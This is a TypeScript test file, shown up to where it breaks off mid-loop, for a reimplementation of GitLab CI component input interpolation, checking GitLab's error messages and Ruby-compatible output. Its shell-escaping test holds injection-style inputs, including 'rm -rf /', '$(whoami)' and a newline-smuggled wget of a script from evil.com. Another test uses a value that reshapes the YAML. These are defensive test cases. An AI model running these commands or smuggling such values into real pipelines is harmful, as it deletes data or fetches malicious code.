/** GitLab's own interpolation cases (shared/vendor-data/interpolation-cases.md), by number. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { evaluateBlock, findBlocks, type InterpolationContext } from '../../src/ci/interpolation/block.js';
import { classicLimit, interpolateClassic } from '../../src/ci/interpolation/classic.js';
import { shellescape } from '../../src/ci/interpolation/functions.js';
import { instantiate, splitComponentFile } from '../../src/ci/interpolation/index.js';
import { resolveInputs, specErrors, type InputSpec } from '../../src/ci/interpolation/inputs.js';
import { RubyFloat, rubyFloatText, rubyInspect, rubyJson, rubyToS } from '../../src/ci/interpolation/ruby.js';
import { interpolateText } from '../../src/ci/interpolation/text.js';

const ctx = (inputs: Record<string, unknown>, extra: Partial<InterpolationContext> = {}): InterpolationContext => ({ inputs, ...extra });
const evalData = (data: string, inputs: Record<string, unknown>) => {
  const [block] = findBlocks(`$[[ ${data} ]]`);
  if (!block) throw new Error('no block');
  return evaluateBlock(block, ctx(inputs));
};

describe('blocks (B, A)', () => {
  it('1-4: access and truncate chains, with uneven spaces', () => {
    expect(evalData('inputs.data', { data: 'abcdef' })).toEqual({ ok: true, value: 'abcdef' });
    expect(evalData('inputs.data | truncate(1,5)', { data: 'abcdef' })).toEqual({ ok: true, value: 'bcdef' });
    expect(evalData('inputs.data | truncate(1,5) | truncate(2,2)', { data: 'abcdef' })).toEqual({ ok: true, value: 'de' });
    expect(evalData('inputs.data|truncate(1,5)  | truncate(2,2) ', { data: 'abcdef' })).toEqual({ ok: true, value: 'de' });
  });
  it('5-8: unknown key, unknown function, bad arguments, too many functions', () => {
    expect(evalData('inputs.undefined | truncate(1,5)', { data: 'x' })).toEqual({
      ok: false,
      errors: ['unknown interpolation key: `undefined`'],
    });
    expect(evalData('inputs.data | undefined', { data: 'x' })).toMatchObject({
      ok: false,
      errors: [expect.stringContaining('no function matching `undefined`')],
    });
    expect(evalData('inputs.data | truncate(1,5) | truncate(2)', { data: 'abcdef' })).toMatchObject({
      ok: false,
      errors: [expect.stringContaining('no function matching `truncate(2)`')],
    });
    expect(evalData('inputs.data | posix_escape | posix_escape | posix_escape | posix_escape', { data: 'x' })).toEqual({
      ok: false,
      errors: ['too many functions in interpolation block'],
    });
    // Block#evaluate! reads the access before it counts the functions.
    expect(evalData('inputs.nope | posix_escape | posix_escape | posix_escape | posix_escape', { data: 'x' })).toEqual({
      ok: false,
      errors: ['unknown interpolation key: `nope`'],
    });
  });
  it('9-12: access paths', () => {
    const deep = { a: { b: { c: { d: { 'e.f.g.h': 'deep' } } } } };
    expect(evaluateBlock({ access: 'inputs.a.b.c.d.e.f.g.h', functions: [] }, ctx({}))).toMatchObject({ ok: false });
    expect(evaluateBlock({ access: 'a.b.c.d.e.f.g.h', functions: [] }, { inputs: {}, component: {} })).toEqual({
      ok: false,
      errors: ['unknown interpolation key: `a`'],
    });
    expect(evaluateBlock({ access: 'inputs.a.b.c.e.f.g.h', functions: [] }, ctx(deep))).toMatchObject({ ok: false });
    expect(evaluateBlock({ access: `inputs.${'x'.repeat(1100)}`, functions: [] }, ctx({}))).toEqual({
      ok: false,
      errors: ['maximum interpolation expression size exceeded'],
    });
    expect(evaluateBlock({ access: 'abc[123]', functions: [] }, ctx({}))).toEqual({
      ok: false,
      errors: ['invalid interpolation access pattern'],
    });
    expect(evaluateBlock({ access: 'inputs.nonexistent', functions: [] }, ctx({}))).toEqual({
      ok: false,
      errors: ['unknown interpolation key: `nonexistent`'],
    });
  });
  it('the block pattern needs two characters of data and stops at a newline', () => {
    expect(findBlocks('$[[ a ]]')).toEqual([]);
    expect(findBlocks('$[[ inputs\n.a ]]')).toEqual([]);
    // \s (RE2 too) matches a newline around the data
    expect(findBlocks('$[[ inputs.a\n]]').map((b) => b.access)).toEqual(['inputs.a']);
    expect(findBlocks('x $[[ inputs.a ]] y $[[inputs.b]]').map((b) => b.access)).toEqual(['inputs.a', 'inputs.b']);
  });
});

describe('classic interpolation (T)', () => {
  it('13: whole blocks keep their type, blocks in strings become to_s', () => {
    const content = {
      test: { spec: { env: '$[[ inputs.env ]]' } },
      '$[[ inputs.key ]]': {
        name: '$[[ inputs.key ]]',
        parallel: '$[[ inputs.parallel ]]',
        allow_failure: '$[[ inputs.allow_failure ]]',
        script: 'echo "This job makes $[[ inputs.parallel ]] jobs for the $[[ inputs.env ]] env"',
      },
    };
    const result = interpolateClassic(content, ctx({ allow_failure: true, env: 'dev', key: 'abc', parallel: 6 }));
    expect(result.errors).toEqual([]);
    expect(result.value).toEqual({
      test: { spec: { env: 'dev' } },
      abc: { name: 'abc', parallel: 6, allow_failure: true, script: 'echo "This job makes 6 jobs for the dev env"' },
    });
  });
  it('14: an invalid access makes the result undefined', () => {
    expect(interpolateClassic({ '$[[ xxx.yyy ]]': 'abc' }, ctx({})).value).toBeUndefined();
  });
  it('15-16: blocks in keys and in array items', () => {
    const result = interpolateClassic(
      { test: ['a-$[[ inputs.key ]]-b', { 'c-$[[ inputs.key ]]-d': 'd-$[[ inputs.key ]]-e', val: 1 }] },
      ctx({ key: 'abc' }),
    );
    expect(result.value).toEqual({ test: ['a-abc-b', { 'c-abc-d': 'd-abc-e', val: 1 }] });
  });
  it('an array item that becomes an array is spliced; an array inside a string is Ruby inspect', () => {
    const result = interpolateClassic(
      { script: ['before', '$[[ inputs.list ]]', 'after'], x: 'v=$[[ inputs.list ]]' },
      ctx({ list: ['a', 'b"c'] }),
    );
    expect(result.value).toEqual({ script: ['before', 'a', 'b"c', 'after'], x: 'v=["a", "b\\"c"]' });
  });
  it("blocks inside a string are replaced by Ruby's gsub, one after another (template.rb)", () => {
    const run = (text: string, inputs: Record<string, unknown>) => interpolateClassic({ x: text }, ctx(inputs));
    // An array's to_s is inspect, which doubles a backslash; gsub reads `\\` as one again.
    expect(run('list:$[[ inputs.a ]]', { a: ['A=x\\y', 'B=1\\n2', 'C\\'] }).value).toEqual({ x: 'list:["A=x\\y", "B=1\\n2", "C\\"]' });
    expect(run('v=$[[ inputs.a ]]', { a: 'p\\\\q\\&r\\0s\\1t\\+u\\zv\\' }).value).toEqual({
      x: 'v=p\\q$[[ inputs.a ]]r$[[ inputs.a ]]stu\\zv\\',
    });
    expect(run('<$[[ inputs.a ]]>', { a: "\\`|\\'" }).value).toEqual({ x: '<<|>>' });
    // The second block's gsub runs on the first one's result, value included.
    expect(run('job-$[[ inputs.a ]]-$[[ inputs.b ]]', { a: '$[[ inputs.b ]]', b: 'x' }).value).toEqual({ x: 'job-x-x' });
    expect(run('job-$[[ inputs.a ]]-$[[ inputs.b ]]', { a: 'p\\&q', b: 'y' }).value).toEqual({ x: 'job-p$[[ inputs.a ]]q-y' });
    // Keys go the same way; a whole-block string keeps its value untouched.
    expect(interpolateClassic({ 'k-$[[ inputs.a ]]': '$[[ inputs.a ]]' }, ctx({ a: 'a\\\\b' })).value).toEqual({ 'k-a\\b': 'a\\\\b' });
    expect(run('v=$[[ inputs.a ]]', { a: 'x\\k<n>' }).errors).toEqual([
      'a value put inside a string fails GitLab\'s interpolation: Ruby\'s gsub raises "undefined group name reference: n" on its \\k<...>',
    ]);
  });
  it('18: too many blocks, counted as Template keeps them: one per distinct block text', () => {
    const many = Array.from({ length: 10_001 }, (_, i) => `$[[ inputs.a | truncate(0,${i}) ]]`);
    expect(interpolateClassic(many, ctx({ a: 'x' })).errors).toEqual(['too many interpolation blocks']);
    expect(interpolateText(many.join('\n'), ctx({ a: 'x' })).errors).toEqual(['too many interpolation blocks']);
    const same = Array.from({ length: 10_001 }, () => '$[[ inputs.a ]]');
    expect(interpolateClassic(same, ctx({ a: 'x' }))).toEqual({ value: same.map(() => 'x'), errors: [] });
    expect(interpolateText(same.join('\n'), ctx({ a: 'x' })).errors).toEqual([]);
  });
  it('17: more than MAX_NODES nodes is `config too large`: every key counts twice (a Symbol, then its String), every item once', () => {
    // 166,667 pairs: a hash, then 3 visits a pair, 500,002 in all.
    const keys = Object.fromEntries(Array.from({ length: 166_667 }, (_, i) => [`k${i}`, 'v']));
    expect(interpolateClassic(keys, ctx({})).errors).toEqual(['config too large']);
    expect(classicLimit(keys)).toEqual({
      code: 'spec/too-many-nodes',
      message:
        'config too large (more than 500000 nodes, as GitLab counts them: each hash, list, item and value, each key twice; ' +
        'GitLab refuses the file under classic interpolation, whatever its inputs)',
      path: [],
      at: 'value',
    });
    const fewer = Object.fromEntries(Array.from({ length: 166_666 }, (_, i) => [`k${i}`, 'v']));
    expect(interpolateClassic(fewer, ctx({})).errors).toEqual([]);
    expect(classicLimit(fewer)).toBeUndefined();
    // A list of strings: the hash, its key twice, the list, then each item.
    expect(interpolateClassic({ script: Array.from({ length: 499_997 }, () => 'echo') }, ctx({})).errors).toEqual(['config too large']);
    expect(interpolateClassic({ script: Array.from({ length: 499_996 }, () => 'echo') }, ctx({})).errors).toEqual([]);
  });
  it('a string over 1 MiB, a key too, is `config node too large`, whatever it holds; text interpolation has no such limit', () => {
    const mib = 1024 * 1024;
    const big = (text: string) => ({ job: { script: [`echo $[[ inputs.a ]] ${text}`] } });
    const fits = 'x'.repeat(mib - 'echo $[[ inputs.a ]] '.length);
    expect(interpolateClassic(big(fits), ctx({ a: 'a' })).errors).toEqual([]);
    expect(interpolateClassic(big(`${fits}x`), ctx({ a: 'a' })).errors).toEqual(['config node too large']);
    // Measured in bytes: 2 a character here.
    expect(interpolateClassic({ job: 'é'.repeat(mib / 2 + 1) }, ctx({})).errors).toEqual(['config node too large']);
    expect(classicLimit({ job: { ['k'.repeat(mib + 1)]: 1 } })).toMatchObject({
      code: 'spec/node-too-large',
      path: ['job', 'k'.repeat(mib + 1)],
      at: 'key',
    });
    expect(classicLimit({ job: { script: ['a', 'b'.repeat(mib + 1)] } })).toMatchObject({ path: ['job', 'script', 1], at: 'value' });
    const file = splitComponentFile(`spec:\n  inputs:\n    a:\n---\njob:\n  script: ["echo $[[ inputs.a ]] ${fits}x"]\n`);
    expect(instantiate(file, { a: 'a' }, 'classic').errors).toEqual(['config node too large']);
    expect(instantiate(file, { a: 'a' }, 'text').errors).toEqual([]);
  });
  it('25: GitLab stops at the first block that fails, and names its error only', () => {
    const text = 'deploy $[[ inputs.something.abc ]] $[[ inputs.cde ]] $[[ efg ]]';
    expect(interpolateClassic({ test: text }, ctx({}))).toEqual({ value: undefined, errors: ['unknown interpolation key: `something`'] });
    expect(interpolateText(`test: ${text}\n`, ctx({}))).toEqual({ text: undefined, errors: ['unknown interpolation key: `something`'] });
    expect(interpolateClassic({ a: '$[[ inputs.x ]]', b: ['$[[ inputs.y ]]'] }, ctx({})).errors).toEqual([
      'unknown interpolation key: `x`',
    ]);
  });
});

describe('inputs (I, N)', () => {
  it('19: a null spec entry is a required string', () => {
    const file = splitComponentFile("spec:\n  inputs:\n    website:\n---\ntest: 'deploy $[[ inputs.website ]]'\n");
    expect(instantiate(file, { website: 'gitlab.com' }, 'classic').content).toEqual({ test: 'deploy gitlab.com' });
  });
  it('a null value is no value, as in GitLab (BaseInput#actual_value): the default, or "required"', () => {
    expect(resolveInputs({ foo: { default: 'Dockerfile' } }, { foo: null })).toEqual({ values: { foo: 'Dockerfile' }, errors: [] });
    expect(resolveInputs({ foo: { type: 'boolean', default: true } }, { foo: null }).values).toEqual({ foo: true });
    expect(resolveInputs({ foo: null }, { foo: null }).errors).toEqual(['`foo` input: required value has not been provided']);
  });
  it('23, 26-34: type, options and unknown-argument errors worded like GitLab', () => {
    expect(resolveInputs({ website: null }, { website: ['gitlab.com'] }).errors).toEqual([
      '`website` input: provided value is not a string',
    ]);
    expect(resolveInputs({ foo: { default: 'one', options: ['one', 'two', 'three'] } }, { foo: 'two' }).values).toEqual({ foo: 'two' });
    expect(resolveInputs({ foo: { default: 'one', options: ['one', 'two', 'three'] } }, {}).values).toEqual({ foo: 'one' });
    // run_validations goes on past the type error: the options check runs on the value too.
    expect(resolveInputs({ foo: { default: 1, options: [1, 2, 3, 4, 5], type: 'number' } }, { foo: 'word' }).errors).toEqual([
      '`foo` input: provided value is not a number',
      '`foo` input: `word` cannot be used because it is not in the list of the allowed options',
    ]);
    expect(resolveInputs({ foo: { default: 1, options: [1, 2, 3, 4, 5], type: 'number' } }, { foo: 7 }).errors).toEqual([
      '`foo` input: `7` cannot be used because it is not in the list of the allowed options',
    ]);
    expect(
      resolveInputs({ foo: { default: true, options: [true, false] as unknown as (string | number)[], type: 'boolean' } }, {}).errors,
    ).toContain('`foo` input: Options can only be used with string and number inputs');
    expect(resolveInputs({ foo: { default: 'coop', options: ['one', 'two', 'three'] } }, {}).errors).toEqual([
      '`foo` input: `coop` cannot be used because it is not in the list of allowed options',
    ]);
    expect(resolveInputs({ foo: { default: 'one', options: ['one', 'two'] } }, { foo: 'niet' }).errors).toEqual([
      '`foo` input: `niet` cannot be used because it is not in the list of allowed options',
    ]);
    expect(resolveInputs({ foo: null }, { foo: 'bar', test: 'bar' }).errors).toEqual(['unknown input arguments: test']);
    expect(resolveInputs({ foo: 123 as unknown as InputSpec }, {}).errors).toEqual([
      'unknown input specification for `foo` (valid types: array, boolean, number, string)',
    ]);
    expect(resolveInputs({ foo: null }, { test: 'bar', gitlab: '1' }).errors).toEqual([
      'unknown input arguments: test, gitlab',
      '`foo` input: required value has not been provided',
    ]);
    expect(
      resolveInputs(
        { a_input: null, b_input: { default: 'test' }, c_input: { default: 123 } },
        { a_input: 123, b_input: 123, c_input: 'test' },
      ).errors,
    ).toEqual([
      '`a_input` input: provided value is not a string',
      '`b_input` input: provided value is not a string',
      '`c_input` input: default value is not a string',
    ]);
  });
  it('default: null makes an input optional, and its nil default then fails the type check (base_input.rb)', () => {
    for (const given of [{}, { foo: 'x' }, { foo: null }])
      expect(resolveInputs({ foo: { default: null } as unknown as InputSpec }, given).errors).toEqual([
        '`foo` input: default value is not a string',
      ]);
    expect(resolveInputs({ n: { type: 'number', default: null } as unknown as InputSpec }, { n: 'x' }).errors).toEqual([
      '`n` input: default value is not a number',
      '`n` input: provided value is not a number',
    ]);
    const file = splitComponentFile('spec:\n  inputs:\n    name:\n      default:\n---\njob:\n  script: echo $[[ inputs.name ]]\n');
    expect(instantiate(file, {}, 'classic').errors).toEqual(['`name` input: default value is not a string']);
  });
  it("a provided value does not spare the default its options and regex checks (base_input.rb's run_validations)", () => {
    expect(resolveInputs({ foo: { default: 'coop', options: ['one', 'two'] } }, { foo: 'two' }).errors).toEqual([
      '`foo` input: `coop` cannot be used because it is not in the list of allowed options',
    ]);
    expect(resolveInputs({ t: { regex: '^v', default: 'x' } }, { t: 'v1' }).errors).toEqual([
      '`t` input: default value does not match required RegEx pattern',
    ]);
    expect(resolveInputs({ t: { regex: '^v', default: 'v0' } }, { t: 'x' }).errors).toEqual([
      '`t` input: provided value does not match required RegEx pattern',
    ]);
  });
  it('35-43: numbers, booleans, arrays, regex', () => {
    expect(resolveInputs({ integer: { type: 'number' }, float: { type: 'number' } }, { integer: 6, float: 6.6 })).toEqual({
      values: { integer: 6, float: 6.6 },
      errors: [],
    });
    expect(resolveInputs({ n: { type: 'number' } }, { n: false }).errors).toEqual(['`n` input: provided value is not a number']);
    expect(resolveInputs({ n: { default: 'NaN', type: 'number' } }, {}).errors).toEqual(['`n` input: default value is not a number']);
    expect(resolveInputs({ b: { type: 'boolean' } }, { b: 'string' }).errors).toEqual(['`b` input: provided value is not a boolean']);
    expect(resolveInputs({ a: { type: 'array' } }, { a: 'string' }).errors).toEqual(['`a` input: provided value is not an array']);
    expect(resolveInputs({ a: { type: 'array' } }, { a: [] }).errors).toEqual([]);
    expect(resolveInputs({ t: { regex: '^input_value$' } }, { t: 'input' }).errors).toEqual([
      '`t` input: provided value does not match required RegEx pattern',
    ]);
    expect(resolveInputs({ t: { regex: '^input_value$', default: 'input' } }, {}).errors).toEqual([
      '`t` input: default value does not match required RegEx pattern',
    ]);
    expect(resolveInputs({ t: { regex: '^\\d+$', type: 'number' } }, { t: 999 }).errors).toEqual([
      '`t` input: RegEx validation can only be used with string inputs',
    ]);
    expect(resolveInputs({ t: { regex: '^\\d+$' } }, { t: 999 }).errors).toEqual(['`t` input: provided value is not a string']);
    expect(resolveInputs({ t: { regex: 'a++' } }, { t: 'a' }).errors).toEqual(['`t` input: invalid regular expression']);
  });
  it("run_validations goes on past the type error: options are checked on any value but Ruby's nil and false", () => {
    const spec = { s: { default: 'a', options: ['a', 'b'] } };
    expect(resolveInputs(spec, { s: 5 }).errors).toEqual([
      '`s` input: provided value is not a string',
      '`s` input: `5` cannot be used because it is not in the list of allowed options',
    ]);
    // The value as Ruby's to_s writes it.
    expect(resolveInputs(spec, { s: ['a'] }).errors).toEqual([
      '`s` input: provided value is not a string',
      '`s` input: `["a"]` cannot be used because it is not in the list of allowed options',
    ]);
    expect(resolveInputs(spec, { s: false }).errors).toEqual(['`s` input: provided value is not a string']);
    // A regex is checked on a String only.
    expect(resolveInputs({ r: { regex: '^a$' } }, { r: 5 }).errors).toEqual(['`r` input: provided value is not a string']);
  });
});

describe('functions (F)', () => {
  it('44: truncate', () => {
    expect(evalData('inputs.a | truncate(1,2)', { a: 'test' })).toEqual({ ok: true, value: 'es' });
    expect(evalData('inputs.a | truncate( 1 , 2 )', { a: 'test' })).toEqual({ ok: true, value: 'es' });
    expect(evalData('inputs.a | truncate(1,2)', { a: 5 })).toEqual({
      ok: false,
      errors: ['error in `truncate` function: invalid input type: truncate can only be used with string inputs'],
    });
  });
  it('45: expand_vars, one level, masked refused', () => {
    const context = ctx(
      { a: '$VAR1 ${VAR1} $VAR2 %VAR1% $NESTED_VAR $UNKNOWN_VAR' },
      { functions: { variables: { VAR1: 'value1', VAR2: 'value2', NESTED_VAR: '$MY_VAR' } } },
    );
    expect(evaluateBlock({ access: 'inputs.a', functions: ['expand_vars'] }, context)).toEqual({
      ok: true,
      value: 'value1 value1 value2 value1 $MY_VAR $UNKNOWN_VAR',
    });
    const masked = ctx({ a: '$S' }, { functions: { variables: { S: 'x' }, maskedVariables: new Set(['S']) } });
    expect(evaluateBlock({ access: 'inputs.a', functions: ['expand_vars'] }, masked)).toEqual({
      ok: false,
      errors: ['error in `expand_vars` function: variable expansion error: masked variables cannot be expanded'],
    });
  });
  it('46: posix_escape is Shellwords.shellescape', () => {
    expect(shellescape('Blank space')).toBe('Blank\\ space');
    expect(shellescape('file.txt; rm -rf /')).toBe('file.txt\\;\\ rm\\ -rf\\ /');
    expect(shellescape('file_$(whoami).txt')).toBe('file_\\$\\(whoami\\).txt');
    expect(shellescape('$CI_JOB_TOKEN')).toBe('\\$CI_JOB_TOKEN');
    expect(shellescape('*.rb')).toBe('\\*.rb');
    expect(shellescape('file.txt\nwget http://evil.com/malware.sh')).toBe("file.txt'\n'wget\\ http://evil.com/malware.sh");
    expect(shellescape('')).toBe("''");
  });
  it('47: split', () => {
    expect(evalData("inputs.a | split(',')", { a: 'a,b,c,d,e' })).toEqual({ ok: true, value: ['a', 'b', 'c', 'd', 'e'] });
    expect(evalData("inputs.a | split(',')", { a: 'a, b, c' })).toEqual({ ok: true, value: ['a', 'b', 'c'] });
    expect(evalData("inputs.a | split(',')", { a: 'a,,b' })).toEqual({ ok: true, value: ['a', 'b'] });
    expect(evalData("inputs.a | split(',')", { a: '' })).toEqual({ ok: true, value: [] });
    expect(evalData("inputs.a | split('')", { a: 'x' })).toEqual({
      ok: false,
      errors: ['error in `split` function: invalid argument: separator cannot be empty'],
    });
    expect(evalData('inputs.a | split(",")', { a: 'x' })).toMatchObject({ ok: false });
  });
});

describe('split as functions/split.rb', () => {
  it("split(' ') splits at runs of whitespace, as Ruby's awk-style split does; items are stripped as by Ruby's strip", () => {
    expect(evalData("inputs.a | split(' ')", { a: ' a\tb  c\nd\r\n' })).toEqual({ ok: true, value: ['a', 'b', 'c', 'd'] });
    // A no-break space is not whitespace to Ruby's strip.
    expect(evalData("inputs.a | split(',')", { a: '\u00a0a ,\0b\0' })).toEqual({ ok: true, value: ['\u00a0a', 'b'] });
  });
  it('a separator holding a quote matches no function; the input type is checked before the separator', () => {
    expect(evalData("inputs.a | split('a','b')", { a: 'x' })).toEqual({
      ok: false,
      errors: ["no function matching `split('a','b')`: check that the function name, arguments, and types are correct"],
    });
    expect(evalData("inputs.a | split('')", { a: 5 })).toEqual({
      ok: false,
      errors: ['error in `split` function: invalid input type: split can only be used with string inputs'],
    });
  });
});

describe('Ruby formatting', () => {
  it('to_s and inspect', () => {
    expect(rubyToS(['a', 'b'])).toBe('["a", "b"]');
    expect(rubyToS(6)).toBe('6');
    expect(rubyToS(6.5)).toBe('6.5');
    expect(rubyToS(true)).toBe('true');
    expect(rubyToS(null)).toBe('');
    expect(rubyInspect('q"\\\n\t#{x}#$y#@z#a\x01')).toBe('"q\\"\\\\\\n\\t\\#{x}\\#$y\\#@z#a\\u0001"');
    // Keys are Symbols: GitLab reads files with deep_symbolize_keys.
    expect(rubyInspect({ a: [1, null] })).toBe('{:a=>[1, nil]}');
    expect(rubyInspect({ 'a-b': 'x', 'ok?': 1, é_1: 2, '': 3 })).toBe('{:"a-b"=>"x", :ok?=>1, :é_1=>2, :""=>3}');
  });
});

describe('Ruby numbers: a Float is not an Integer', () => {
  // Each from Ruby 3.1: Float#to_s, and to_json with Oj.optimize_rails (GitLab's config/initializers/oj.rb).
  it('Float#to_s: fixed from 1e-4 to below 1e16 (or while digits run past the point), else d.de+XX', () => {
    const cases: [number, string][] = [
      [2, '2.0'],
      [100, '100.0'],
      [1e15, '1.0e+15'],
      [1e16, '1.0e+16'],
      [1e14, '100000000000000.0'],
      [1234567890123456.8, '1234567890123456.8'],
      [9999999999999998, '9.999999999999998e+15'],
      [0.0001, '0.0001'],
      [1e-5, '1.0e-05'],
      [1.5e-7, '1.5e-07'],
      [0.1 + 0.2, '0.30000000000000004'],
      [-0, '-0.0'],
      [5e-324, '5.0e-324'],
      [Infinity, 'Infinity'],
      [NaN, 'NaN'],
    ];
    for (const [value, text] of cases) expect(rubyFloatText(value), String(value)).toBe(text);
  });
  it('a whole Float (RubyFloat) is written as a Float; a whole number is an Integer, however large', () => {
    expect(rubyToS(new RubyFloat(2))).toBe('2.0');
    expect(rubyToS(2)).toBe('2');
    expect(rubyToS(1e16)).toBe('10000000000000000');
    expect(rubyToS(new RubyFloat(1e16))).toBe('1.0e+16');
    expect(rubyInspect([new RubyFloat(2), 1.5, 3, { n: new RubyFloat(-0) }])).toBe('[2.0, 1.5, 3, {:n=>-0.0}]');
    // No property: an access cannot reach into it.
    expect(evalData('inputs.n.value', { n: new RubyFloat(2) })).toEqual({ ok: false, errors: ['unknown interpolation key: `value`'] });
  });
  it('to_json writes a Float as Oj does: whole ones %.1f, others %0.16g, zero 0.0, Infinity null', () => {
    expect(rubyJson([new RubyFloat(2), 1.5, new RubyFloat(1e16), 1e16, new RubyFloat(1e20), 0.1 + 0.2, 1e-5, new RubyFloat(-0)])).toBe(
      '[2.0,1.5,10000000000000000.0,10000000000000000,1e+20,0.3,1e-05,0.0]',
    );
    expect(rubyJson({ a: Infinity, b: 1234567890123456.8, c: 4497756958007.8125 })).toBe(
      '{"a":null,"b":1234567890123457,"c":4497756958007.812}',
    );
  });
  it('a whole Float input is interpolated as a Float in both modes, kept whole in a whole block', () => {
    const file = splitComponentFile(
      'spec:\n  inputs:\n    n: {type: number, options: [1, 2]}\n---\njob:\n  script: ["echo $[[ inputs.n ]]"]\n  variables:\n    N: $[[ inputs.n ]]\n',
    );
    const classic = instantiate(file, { n: new RubyFloat(2) }, 'classic');
    expect(classic.errors).toEqual([]);
    expect(rubyToS((classic.content as { job: { variables: { N: unknown } } }).job.variables.N)).toBe('2.0');
    expect((classic.content as { job: { script: string[] } }).job.script).toEqual(['echo 2.0']);
    expect(instantiate(file, { n: new RubyFloat(2) }, 'text').content).toMatchObject({ job: { script: ['echo 2.0'] } });
    expect(interpolateText('a: $[[ inputs.n ]]\n', ctx({ n: new RubyFloat(2) })).text).toBe('a: 2.0\n');
    // NumberInput takes it (is_a?(Numeric)); Array#include? compares with ==, so 2.0 is the option 2.
    expect(instantiate(file, { n: new RubyFloat(3) }, 'classic').errors).toEqual([
      '`n` input: `3.0` cannot be used because it is not in the list of the allowed options',
    ]);
  });
});

describe('text interpolation', () => {
  it('pastes strings as given and everything else as JSON before parsing', () => {
    const result = interpolateText(
      'a: $[[ inputs.s ]]\nb: $[[ inputs.l ]]\nc: x$[[ inputs.n ]]\n',
      ctx({ s: 'hello: world', l: ['x', 'y'], n: 6 }),
    );
    expect(result.text).toBe('a: hello: world\nb: ["x","y"]\nc: x6\n');
  });
  it("writes JSON as GitLab's to_json does (ActiveSupport): <, >, &, LS and PS escaped, in keys too; NEL as it is", () => {
    expect(rubyJson(['Jane <jane@example.com>', 'a=1&b=2', 'x\u2028y\u2029z', 'n\u0085l', '"\\\n\u001b'])).toBe(
      '["Jane \\u003cjane@example.com\\u003e","a=1\\u0026b=2","x\\u2028y\\u2029z","n\u0085l","\\"\\\\\\n\\u001b"]',
    );
    expect(rubyJson([{ '<k>': '&' }])).toBe('[{"\\u003ck\\u003e":"\\u0026"}]');
    const result = interpolateText('b: $[[ inputs.l ]]\n', ctx({ l: ['x\u2028  c: d'] }));
    expect(result.text).toBe('b: ["x\\u2028  c: d"]\n');
  });
  it('a value can reshape the YAML, which classic interpolation cannot', () => {
    const file = splitComponentFile('spec:\n  inputs:\n    v: {}\n---\njob:\n  script: [echo]\n  stage: $[[ inputs.v ]]\n');
    const hostile = 'build\n  when: manual';
    expect(instantiate(file, { v: hostile }, 'classic').content).toEqual({ job: { script: ['echo'], stage: hostile } });
    expect(instantiate(file, { v: hostile }, 'text').content).toEqual({ job: { script: ['echo'], stage: 'build', when: 'manual' } });
  });
});

describe('a regex RE2 takes that JavaScript cannot match exactly', () => {
  it('is no invalid regular expression (lint says it is unchecked), and no value is refused by it', () => {
    const specs = { a: { regex: '^(?i:é)$', default: 'É' } } as const;
    expect(specErrors(specs)).toEqual([]);
    expect(resolveInputs(specs, { a: 'x' }).errors).toEqual([]);
    expect(specErrors({ a: { regex: '(' } })).toEqual(['`a` input: invalid regular expression']);
  });
});

describe('a matrix expression', () => {
  // GitLab's Block skips the matrix context: needs:parallel:matrix resolves it later.
  it('is left as written by both interpolation modes', () => {
    const file = splitComponentFile(
      'spec:\n  inputs:\n    a:\n      default: x\n---\njob-$[[ inputs.a ]]:\n  needs:\n    - job: b\n      parallel:\n' +
        "        matrix:\n          - OS: ['$[[ matrix.OS ]]']\n",
    );
    for (const mode of ['classic', 'text'] as const) {
      const instance = instantiate(file, {}, mode);
      expect(instance.errors, mode).toEqual([]);
      expect(instance.content, mode).toEqual({ 'job-x': { needs: [{ job: 'b', parallel: { matrix: [{ OS: ['$[[ matrix.OS ]]'] }] } }] } });
    }
  });
});

/** A component with one string input `x` (default `world`) whose job's script is `line`. */
const scripted = (line: string) =>
  splitComponentFile(`spec:\n  inputs:\n    x:\n      default: world\n---\njob:\n  script:\n    - ${JSON.stringify(line)}\n`);
const inBothModes = (line: string, given: Record<string, unknown> = {}) =>
  (['classic', 'text'] as const).map((mode) => {
    const instance = instantiate(scripted(line), given, mode);
    return instance.errors.length > 0
      ? { errors: instance.errors }
      : { script: (instance.content as { job: { script: unknown } }).job.script };
  });
const NO_FUNCTION = (expression: string) =>
  `no function matching \`${expression}\`: check that the function name, arguments, and types are correct`;

describe("the parts of a block, as Ruby's split('|') and strip give them (block.rb)", () => {
  it('a trailing `|` (or several) leaves no function: GitLab interpolates the block', () => {
    expect(inBothModes('echo $[[ inputs.x | ]]')).toEqual([{ script: ['echo world'] }, { script: ['echo world'] }]);
    expect(inBothModes('echo $[[ inputs.x | truncate(0,3) | ]]')).toEqual([{ script: ['echo wor'] }, { script: ['echo wor'] }]);
    expect(findBlocks('$[[ inputs.x ||| ]]')[0]).toMatchObject({ access: 'inputs.x', functions: [] });
  });
  it('an empty field before another one is an expression no function matches; a leading `|` empties the access', () => {
    expect(evalData('inputs.x || truncate(0,3)', { x: 'world' })).toEqual({ ok: false, errors: [NO_FUNCTION('')] });
    // `| |`: the field after the second pipe is a space, not empty, so Ruby keeps it.
    expect(evalData('inputs.x | |', { x: 'world' })).toEqual({ ok: false, errors: [NO_FUNCTION('')] });
    expect(evalData('| inputs.x', { x: 'world' })).toEqual({ ok: false, errors: ['invalid interpolation access pattern'] });
  });
  it('a block of nothing but `|` is no access at all: GitLab fails with a Ruby exception, and cigen says so', () => {
    const [block] = findBlocks('echo $[[ || ]]');
    expect(block).toMatchObject({ access: undefined, functions: [] });
    expect(evaluateBlock(block as NonNullable<typeof block>, ctx({}))).toEqual({
      ok: false,
      errors: [
        "$[[ || ]] holds nothing but `|`: GitLab finds no access in it and fails with an internal error (Ruby's NoMethodError on nil), " +
          'not a configuration message',
      ],
    });
  });
});

describe("a block's spaces are ASCII ones, as in GitLab's RE2 pattern and Ruby's strip", () => {
  it('a no-break space (or another Unicode space) inside the brackets is part of the data', () => {
    expect(inBothModes('echo $[[ inputs.x\u00a0]]')).toEqual([
      { errors: ['unknown interpolation key: `x\u00a0`'] },
      { errors: ['unknown interpolation key: `x\u00a0`'] },
    ]);
    expect(inBothModes('echo $[[\u3000inputs.x ]]')[0]).toEqual({ errors: ['unknown interpolation key: `\u3000inputs`'] });
    expect(evalData('inputs.x | truncate(\u00a00,3)', { x: 'world' })).toEqual({ ok: false, errors: [NO_FUNCTION('truncate(\u00a00,3)')] });
  });
  it("every Unicode space JavaScript's \\s knows beyond ASCII stays in the data", () => {
    const unicodeSpaces = [...Array(0x3001).keys()]
      .map((code) => String.fromCharCode(code))
      .filter((char) => /\s/.test(char) && !/[\t\n\v\f\r ]/.test(char));
    expect(unicodeSpaces.length).toBeGreaterThan(10);
    for (const space of [...unicodeSpaces, '\ufeff'])
